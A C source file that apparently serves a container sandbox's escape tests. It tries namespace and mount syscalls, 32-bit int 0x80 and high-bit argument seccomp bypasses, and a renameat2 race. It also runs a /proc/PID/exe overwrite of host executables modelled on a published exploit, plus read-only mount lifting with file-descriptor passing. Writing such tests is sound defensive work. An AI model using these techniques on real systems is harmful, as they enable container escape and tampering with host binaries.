/* What a hostile program tries. Linked statically and mounted into containers by the
 * escape tests; it prints one line per attempt, `NAME ERRNO`, 0 for success. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static long outcome(long result) { return result < 0 ? errno : 0; }

static void say(const char *name, long error) { printf("%s %ld\n", name, error); }

static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

/* In a child, so that what succeeds does not change this process. */
static void try_clone(const char *name, long (*attempt)(void))
{
    fflush(stdout);
    pid_t child = fork();
    if (child == 0)
        _exit((int)outcome(attempt()));
    int status;
    waitpid(child, &status, 0);
    say(name, WIFEXITED(status) ? WEXITSTATUS(status) : -1);
}

static long new_user(void) { return unshare(CLONE_NEWUSER); }
static long new_user_cgroup(void) { return unshare(CLONE_NEWUSER | CLONE_NEWCGROUP); }
static long clone_user(void)
{
    long pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
    if (pid == 0)
        _exit(0);
    return pid;
}
static long mount_cgroup(void)
{
    mkdir("/tmp/cgroup", 0700);
    return mount("cgroup", "/tmp/cgroup", "cgroup", 0, "memory");
}

static void system_calls(void)
{
    try_clone("unshare_user", new_user);
    try_clone("unshare_user_cgroup", new_user_cgroup);
    try_clone("clone_user", clone_user);
    try_clone("mount_cgroup", mount_cgroup);
    say("clone3", outcome(syscall(435, 0L, 0L)));
    say("mount", outcome(syscall(SYS_mount, 0L, 0L, 0L, 0L, 0L)));
    say("umount2", outcome(syscall(SYS_umount2, "/proc/keys", 0L)));
    say("pivot_root", outcome(syscall(SYS_pivot_root, 0L, 0L)));
    say("open_tree", outcome(syscall(428, -1L, "", 1L)));
    say("move_mount", outcome(syscall(429, -1L, "", -1L, "", 0L)));
    say("fsopen", outcome(syscall(430, "tmpfs", 0L)));
    say("fsconfig", outcome(syscall(431, -1L, 0L, 0L, 0L, 0L)));
    say("fsmount", outcome(syscall(432, -1L, 0L, 0L)));
    say("fspick", outcome(syscall(433, -1L, "", 0L)));
    say("mount_setattr", outcome(syscall(442, -1L, "", 0L, 0L, 0L)));
    say("bpf", outcome(syscall(SYS_bpf, 0L, 0L, 0L)));
    say("perf_event_open", outcome(syscall(SYS_perf_event_open, 0L, 0L, -1L, -1L, 0L)));
    say("keyctl", outcome(syscall(SYS_keyctl, 0L, -3L, 0L, 0L, 0L)));
    say("add_key", outcome(syscall(SYS_add_key, 0L, 0L, 0L, 0L, 0L)));
    say("request_key", outcome(syscall(SYS_request_key, 0L, 0L, 0L, 0L)));
    say("userfaultfd", outcome(syscall(SYS_userfaultfd, 1L)));
    say("io_uring_setup", outcome(syscall(425, 0L, 0L)));
    say("io_uring_enter", outcome(syscall(426, -1L, 0L, 0L, 0L, 0L, 0L)));
    say("io_uring_register", outcome(syscall(427, -1L, 0L, 0L, 0L)));
    say("open_by_handle_at", outcome(syscall(SYS_open_by_handle_at, -1L, 0L, 0L)));
    say("kexec_load", outcome(syscall(SYS_kexec_load, 0L, 0L, 0L, 0L)));
    say("init_module", outcome(syscall(SYS_init_module, 0L, 0L, 0L)));
    say("finit_module", outcome(syscall(SYS_finit_module, -1L, 0L, 0L)));
    say("delete_module", outcome(syscall(SYS_delete_module, 0L, 0L)));
    say("setns", outcome(syscall(SYS_setns, -1L, 0L)));
    say("reboot", outcome(syscall(SYS_reboot, 0L, 0L, 0L, 0L)));
    say("swapon", outcome(syscall(SYS_swapon, 0L, 0L)));
}

#if defined(__x86_64__)
/* The 32-bit door of a 64-bit process: a filter sees another architecture. */
static long old_call(long number, long first, long second, long third)
{
    long result;
    __asm__ volatile("int $0x80"
                     : "=a"(result)
                     : "a"(number), "b"(first), "c"(second), "d"(third)
                     : "memory", "r8", "r9", "r10", "r11");
    return (int)result < 0 ? -(int)result : 0;
}
#endif

static void sockets(void)
{
    enum { ALG = 38, VSOCK = 40, INET = 2 };
    say("alg", outcome(syscall(SYS_socket, ALG, 5, 0)));
    say("vsock", outcome(syscall(SYS_socket, VSOCK, 1, 0)));
    say("inet", outcome(syscall(SYS_socket, INET, 1, 0)));
    /* Only the lower 32 bits of an argument count for the kernel. */
    say("alg_high_bits", outcome(syscall(SYS_socket, 0x100000000L | ALG, 5L, 0L)));
#if defined(__x86_64__)
    uint32_t *arguments = mmap(0, 4096, PROT_READ | PROT_WRITE,
                               MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (arguments == MAP_FAILED)
        exit(2);
    arguments[0] = ALG, arguments[1] = 5, arguments[2] = 0;
    say("alg_socketcall", old_call(102, 1, (long)arguments, 0));
    say("alg_32", old_call(359, ALG, 5, 0));
    say("vsock_32", old_call(359, VSOCK, 1, 0));
    say("inet_32", old_call(359, INET, 1, 0));
    arguments[0] = INET, arguments[1] = 1;
    say("inet_socketcall", old_call(102, 1, (long)arguments, 0));
#endif
}

/* Exchanges two names for a while; `count` of them at least once. */
static void swap(const char *one, const char *other, double seconds)
{
    double end = now() + seconds;
    long count = 0;
    do {
        for (int i = 0; i < 64; i++)
            count += syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, 2) == 0;
    } while (now() < end);
    printf("swapped %ld\n", count);
}

/* Overwrites every executable that is not the container's own and that can be reached
 * through /proc, until the file `stop` is there. A descriptor is kept and tried again, as the published exploit does. */
static void hunt(const char *stop)
{
    struct stat own, busybox;
    stat("/proc/self/exe", &own);
    stat("/bin/busybox", &busybox);
    long seen = 0, written = 0;
    int kept[256], count = 0;
    while (access(stop, F_OK)) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; proc && (entry = readdir(proc));) {
            if (entry->d_name[0] < '0' || entry->d_name[0] > '9')
                continue;
            char path[300];
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            int fd = open(path, O_PATH | O_CLOEXEC);
            struct stat found;
            if (fd < 0)
                continue;
            if (fstat(fd, &found) || found.st_ino == own.st_ino ||
                found.st_ino == busybox.st_ino || count == 256) {
                close(fd);
                continue;
            }
            seen++;
            kept[count++] = fd;
        }
        if (proc)
            closedir(proc);
        for (int i = 0; i < count; i++) {
            char path[64];
            snprintf(path, sizeof path, "/proc/self/fd/%d", kept[i]);
            int fd = open(path, O_WRONLY | O_CLOEXEC);
            if (fd >= 0 && write(fd, "#!/bin/false\n", 13) == 13)
                written++;
            if (fd >= 0)
                close(fd);
        }
    }
    printf("seen %ld written %ld\n", seen, written);
    fflush(stdout);
}

/* Lifts the write protection of a file's mount in every way there is, says how that went,
 * and hands what it has to whoever listens: this process may die with the file's. */
static void unseal(const char *path, const char *address)
{
    int held = open(path, O_PATH | O_CLOEXEC);
    say("open", held < 0 ? errno : 0);
    char by_number[64];
    snprintf(by_number, sizeof by_number, "/proc/self/fd/%d", held);
    struct { uint64_t set, clear, propagation, userns; } lift = {0, 1 /* RDONLY */, 0, 0};
    say("mount_setattr", outcome(syscall(442, held, "", AT_EMPTY_PATH, &lift, sizeof lift)));
    say("mount_setattr_path", outcome(syscall(442, AT_FDCWD, path, 0, &lift, sizeof lift)));
    say("remount_bind", outcome(mount(0, by_number, 0, MS_REMOUNT | MS_BIND, 0)));
    say("remount", outcome(mount(0, by_number, 0, MS_REMOUNT, 0)));
    close(open("/tmp/copy", O_CREAT | O_WRONLY, 0600));
    long bound = outcome(mount(by_number, "/tmp/copy", 0, MS_BIND, 0));
    say("bind", bound);
    if (bound == 0) {
        mount(0, "/tmp/copy", 0, MS_REMOUNT | MS_BIND, 0);
        held = open("/tmp/copy", O_PATH | O_CLOEXEC);
    }
    int tree = syscall(428, held, "", AT_EMPTY_PATH | 1 /* CLONE */);
    say("open_tree", outcome(tree));
    if (tree >= 0 && syscall(442, tree, "", AT_EMPTY_PATH, &lift, sizeof lift) == 0)
        held = tree;
    say("link", outcome(linkat(held, "", AT_FDCWD, "/tmp/linked", AT_EMPTY_PATH)));
    fflush(stdout);
    struct sockaddr_un name = {.sun_family = AF_UNIX};
    strncpy(name.sun_path, address, sizeof name.sun_path - 1);
    int socket_fd = socket(AF_UNIX, SOCK_STREAM, 0);
    if (connect(socket_fd, (struct sockaddr *)&name, sizeof name))
        exit(3);
    char byte = 'x', space[CMSG_SPACE(sizeof held)] = {0};
    struct iovec part = {&byte, 1};
    struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1,
                             .msg_control = space, .msg_controllen = sizeof space};
    struct cmsghdr *control = CMSG_FIRSTHDR(&message);
    control->cmsg_level = SOL_SOCKET;
    control->cmsg_type = SCM_RIGHTS;
    control->cmsg_len = CMSG_LEN(sizeof held);
    memcpy(CMSG_DATA(control), &held, sizeof held);
    if (sendmsg(socket_fd, &message, 0) != 1)
        exit(4);
}

/* Gets a file from `unseal` and overwrites it as soon as nothing runs from it any more. */
static void overwrite(const char *address)
{
    struct sockaddr_un name = {.sun_family = AF_UNIX};
    strncpy(name.sun_path, address, sizeof name.sun_path - 1);
    int listener = socket(AF_UNIX, SOCK_STREAM, 0);
    if (bind(listener, (struct sockaddr *)&name, sizeof name) || listen(listener, 1))
        exit(3);
    int socket_fd = accept(listener, 0, 0);
    char byte, space[CMSG_SPACE(sizeof(int))] = {0};
    struct iovec part = {&byte, 1};
    struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1,
                             .msg_control = space, .msg_controllen = sizeof space};
    int held;
    if (recvmsg(socket_fd, &message, 0) != 1)
        exit(4);
    memcpy(&held, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof held);
    say("received", held < 3);
    fflush(stdout);
    char by_number[64];
    snprintf(by_number, sizeof by_number, "/proc/self/fd/%d", held);
    for (;;) {
        int fd = open(by_number, O_WRONLY | O_CLOEXEC);
        if (fd < 0 && errno == ETXTBSY) {
            usleep(5000);
            continue;
        }
        long error = outcome(fd);
        if (fd >= 0)
            error = outcome(write(fd, "#!/bin/false\n", 13));
        say("overwrite", error);
        fflush(stdout);
        return;
    }
}

int main(int count, char **words)
{
    if (count < 2)
        return 2;
    if (!strcmp(words[1], "calls"))
        system_calls();
    else if (!strcmp(words[1], "sockets"))
        sockets();
    else if (!strcmp(words[1], "swap") && count == 5)
        swap(words[2], words[3], atof(words[4]));
    else if (!strcmp(words[1], "hunt") && count == 3)
        hunt(words[2]);
    else if (!strcmp(words[1], "unseal") && count == 4)
        unseal(words[2], words[3]);
    else if (!strcmp(words[1], "overwrite") && count == 3)
        overwrite(words[2]);
    else if (!strcmp(words[1], "open") && count == 3)
        say("open", outcome(open(words[2], O_RDONLY | O_NONBLOCK)));
    else
        return 2;
    return 0;
}
